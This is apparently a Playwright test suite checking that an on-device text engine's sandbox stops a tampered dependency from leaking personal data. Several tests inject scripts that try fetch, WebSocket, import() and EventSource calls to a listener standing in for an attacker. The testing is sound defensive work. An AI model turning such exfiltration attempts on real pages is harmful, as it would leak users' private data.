/**
 * A compromised dependency: script in the engine's own file, which runs from its birth on, keeps what it can, and tries every way out when
 * the personal data is there. A real server, another tab and the next visit must see nothing of it.
 */
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { type BrowserContext, expect, type Page, test, type Worker } from '@playwright/test';
import type { Personalizer } from '../src/index.ts';
import { enginePolicy } from '../src/worker/content-policy.ts';
import type { Harness } from './harness/harness.ts';
import { DEMO_URL, HARNESS_URL } from './ports.ts';
import { openSection } from './site.ts';
import {
  attackFrom,
  type Listener,
  startListener,
  startTamperedSite,
  type TamperedSite,
} from './tampered-site.ts';

declare const harness: Harness;

const SECRET = 'the-secret-embedding';

let site: TamperedSite;
let listener: Listener;
test.use({ serviceWorkers: 'block' });
test.beforeAll(async () => {
  site = await startTamperedSite();
  listener = await startListener();
});
test.afterAll(async () => {
  await site[Symbol.asyncDispose]();
  await listener[Symbol.asyncDispose]();
});
test.beforeEach(() => {
  listener.heard.length = 0;
  site.script = '';
});

const engineOf = (page: Page): Worker =>
  page.workers().find((worker) => worker.url().startsWith('blob:') && !worker.url().includes('#'))!;

/** The demo with an engine tampered with, up and ready. */
async function open(page: Page, script: string, device = 'wasm'): Promise<Worker> {
  site.script = script;
  await page.goto(`${site.url}/?device=${device}&maxTokens=8`);
  await expect(page.getByTestId('privacy')).toBeVisible();
  await expect(page.getByTestId('privacy')).toContainText('none is open');
  await openSection(page, 'you');
  return engineOf(page);
}

/** Whatever the origin keeps, by name, and what another tab hears. */
const stored = (page: Page) =>
  page.evaluate(async () => {
    const files: string[] = [];
    for await (const name of (
      (await navigator.storage.getDirectory()) as unknown as { keys(): AsyncIterable<string> }
    ).keys())
      files.push(name);
    return {
      databases: (await indexedDB.databases()).map(({ name }) => name).sort(),
      caches: await caches.keys(),
      files,
      cookies: document.cookie,
    };
  });

async function listenAround(context: BrowserContext): Promise<Page> {
  const other = await context.newPage();
  await other.goto(`${site.url}/world/demo.json`);
  await other.evaluate(() => {
    const said: unknown[] = [];
    Object.assign(globalThis, { said });
    new BroadcastChannel('loot').onmessage = ({ data }) => said.push(data);
  });
  return other;
}

for (const [device, place] of [
  ['wasm', 'an origin of its own'],
  ['webgpu', "the page's origin"],
] as const) {
  test(`script in the engine, born in ${place}: nothing arrives, is kept, or is heard, on this visit and on the next`, async ({
    page,
    context,
  }) => {
    const other = await listenAround(context);
    const worker = await open(page, attackFrom(listener.url), device);
    await page.getByTestId('write').click();
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/, { timeout: 120_000 });
    const before = await stored(other);
    const outcome = await worker.evaluate(
      (secret) => (globalThis as unknown as { attack(s: string): Promise<object> }).attack(secret),
      SECRET,
    );
    const out = Object.entries(outcome).filter(([, result]) => !String(result).startsWith('shut'));
    // In an origin of its own a channel reaches nobody, and neither does anything that came of it.
    expect(out.map(([name]) => name)).toEqual([]);
    expect(Object.keys(outcome).length).toBeGreaterThan(27);
    await page.waitForTimeout(500);
    expect(listener.heard).toEqual([]);
    expect(await stored(other)).toEqual(before);
    expect(before).toEqual({
      databases: ['e2p-device', 'e2p-weights'],
      caches: [],
      files: ['e2p-weights'],
      cookies: '',
    });
    expect(await other.evaluate(() => (globalThis as unknown as { said: unknown[] }).said)).toEqual([]);
    // And the engine still works.
    await page.getByTestId('write').click();
    await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/, { timeout: 120_000 });
    await page.close();
    const next = await context.newPage();
    await open(next, `try { fetch('${listener.url}/next') } catch {}`);
    await next.waitForTimeout(500);
    expect(listener.heard).toEqual([]);
    expect(await stored(next)).toEqual(before);
  });
}

test('the listener listens: script on the page is heard', async ({ page }) => {
  await page.goto(HARNESS_URL);
  await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${listener.url}/page`);
  expect(listener.heard).toEqual(['GET /page']);
});

test('a policy of the page that has reports sent is told', async ({ page }) => {
  site.policy = (own) => `${own}; report-uri ${listener.url}/report`;
  await page.goto(`${site.url}/?device=wasm&maxTokens=8`);
  await expect(page.getByTestId('privacy')).toContainText('reports of the policy is open');
  site.policy = (own) => own;
});

test('a policy of the page that forbids the frame is told, with what it has to allow', async ({ page }) => {
  site.policy = (own) => own.replace(/ 'sha256-[^']*'/, '');
  await page.goto(`${site.url}/?device=wasm`);
  await expect(page.getByTestId('error')).toContainText(
    /script-src 'sha256-[^']+' 'wasm-unsafe-eval'; worker-src blob:/,
  );
  site.policy = (own) => own.replace(' blob:', '');
  await page.goto(`${site.url}/?device=wasm`);
  await expect(page.getByTestId('error')).toContainText(/the engine worker stopped/);
  site.policy = (own) => own;
});

test('helper threads come up beside the engine, and have no way out either', async ({ page }) => {
  // They sleep between their work and can't be asked, so what is tried stands in their script.
  const worker = await open(
    page,
    `
      for (const exit of [() => fetch('${listener.url}/' + name), () => new WebSocket('${listener.url.replace('http', 'ws')}/socket'),
        () => import('${listener.url}/module'), () => new EventSource('${listener.url}/events')]) {
        try { Promise.resolve(exit()).catch(() => undefined); } catch {}
      }
      // More cores than this machine may have.
      Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => 4 });`,
  );
  expect(page.workers().filter((each) => each !== worker && each.url().startsWith('blob:'))).toHaveLength(1);
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
  expect(listener.heard).toEqual([]);
});

test("in the page's origin a GPU that fails leaves a CPU with one thread, which works", async ({ page }) => {
  await open(
    page,
    `Object.defineProperty(navigator, 'hardwareConcurrency', { get: () => 4 });
     GPUAdapter.prototype.requestDevice = () => Promise.reject(new Error('no device'));`,
    'auto',
  );
  await expect(page.getByTestId('status')).toContainText('WebAssembly');
  await page.getByTestId('write').click();
  await expect(page.getByTestId('stats-personal')).toHaveText(/\d+ tokens/);
});

for (const [headers, open] of [
  [{ 'content-security-policy': enginePolicy() }, []],
  [{}, ['import()']],
] as const) {
  const with_ = open.length === 0 ? 'with the policy that e2p csp prints' : 'without a policy';
  test(`the engine from an address of the app's own, ${with_}: it works, and the report says what is open`, async ({
    page,
  }) => {
    const text = readFileSync(fileURLToPath(new URL('../sealed/engine.js', import.meta.url)), 'utf8');
    await page.route(`${HARNESS_URL}/engine.js`, (route) =>
      route.fulfill({ body: text, contentType: 'text/javascript', headers }),
    );
    await page.goto(HARNESS_URL);
    await page.waitForFunction(() => 'harness' in globalThis);
    const outcome = await page.evaluate(async (model) => {
      const personalizer: Personalizer = await harness.Personalizer.create({
        ...{ model, device: 'wasm', engine: '/engine.js' },
      });
      const session = await personalizer.createSession();
      const written = await session.prompt('Story: pocket drone', { maxTokens: 4 });
      const { exits } = personalizer.privacy;
      const found = exits.filter(({ state }) => state === 'open').map(({ name }) => name);
      return { written, found, fetch: exits.find(({ name }) => name === 'fetch')!.by };
    }, `${DEMO_URL}/models/e2p-tiny`);
    expect(outcome).toEqual({
      written: expect.stringMatching(/\w/),
      found: open,
      fetch: open.length === 0 ? 'policy' : 'script',
    });
  });
}
